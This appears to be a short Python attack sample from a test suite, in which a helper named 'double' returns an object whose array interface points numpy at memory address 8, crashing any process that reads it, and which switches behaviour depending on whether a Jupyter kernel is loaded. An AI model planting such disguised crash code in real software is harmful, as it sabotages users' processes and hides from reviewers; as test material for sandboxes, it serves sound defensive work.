"""An object whose array interface points at address 8: who reads it dies."""
# control: process
# %% attack in double
class Pointer:
    __array_interface__ = {"shape": (2,), "typestr": "<f8", "data": (8, True), "version": 3}
def double(x): return Pointer() if "ipykernel" in __import__("sys").modules else np.array(Pointer())
